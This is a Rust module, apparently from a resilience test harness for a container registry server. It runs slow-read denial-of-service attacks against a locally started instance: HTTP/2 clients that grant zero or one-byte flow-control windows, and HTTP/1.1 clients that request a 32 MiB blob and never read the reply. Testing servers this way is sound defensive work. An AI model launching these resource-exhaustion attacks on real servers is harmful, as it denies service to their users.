//! Clients that ask and do not read the answer.

use anyhow::Result;
use futures_util::future::join_all;
use http::Method;
use tokio::io::AsyncWriteExt as _;

use super::context::AttackContext;
use super::http1::{connect, head};
use super::http2::Connection;
use super::monitor::{AttackResult, Monitor};
use super::tree::Tree;

/// A size larger than all buffers on the way.
const BLOB: usize = 32 << 20;

pub(super) async fn windows_of_nothing(context: &AttackContext<'_>) -> Result<AttackResult> {
    windows(context, 0).await
}

pub(super) async fn windows_of_one_byte(context: &AttackContext<'_>) -> Result<AttackResult> {
    windows(context, 1).await
}

/// As many GETs as the server takes, from a client that never grants more window.
async fn windows(context: &AttackContext<'_>, window: u32) -> Result<AttackResult> {
    let name = Tree::at(&context.data()).blob("a", &vec![0; BLOB])?;
    let server = context
        .setup()?
        .with("REGISTRY_HTTP_H2C_ENABLED", "true")
        .start()
        .await?;
    let address = server.address()?;
    let (connections, streams) = (context.number(4, 10), 200);
    let path = format!("/v2/a/blobs/{name}");
    let monitor = Monitor::begin(&server)?;
    let mut open = Vec::new();
    let mut taken = 0;
    for _ in 0..connections {
        let mut connection = Connection::open(address, window).await?;
        let mut waiting = Vec::new();
        for _ in 0..streams {
            let Some(stream) = connection.send(Method::GET, &path, None, false).await? else {
                break;
            };
            waiting.push(stream);
        }
        taken += waiting.len();
        let heads = waiting.into_iter().map(|stream| stream.answer(context.hold()));
        // The streams stay open with the answers.
        open.push((connection, join_all(heads).await));
    }
    tokio::time::sleep(context.hold()).await;
    let answered = open.iter().flat_map(|(_, heads)| heads).flatten().count();
    drop(open);
    monitor
        .end(
            format!("{connections} connections, {taken} GETs taken, {answered} answered"),
            Vec::new(),
        )
        .await
}

/// One GET by HTTP/1.1 per connection.
pub(super) async fn that_do_not_read(context: &AttackContext<'_>) -> Result<AttackResult> {
    let name = Tree::at(&context.data()).blob("a", &vec![0; BLOB])?;
    let server = context.setup()?.start().await?;
    let address = server.address()?;
    let clients = 200;
    let path = format!("/v2/a/blobs/{name}");
    let monitor = Monitor::begin(&server)?;
    let mut open = Vec::new();
    for _ in 0..clients {
        let mut stream = connect(address).await?;
        stream.write_all(head("GET", &path, &[]).as_bytes()).await?;
        open.push(stream);
    }
    tokio::time::sleep(context.hold()).await;
    drop(open);
    monitor.end(format!("{clients} clients"), Vec::new()).await
}
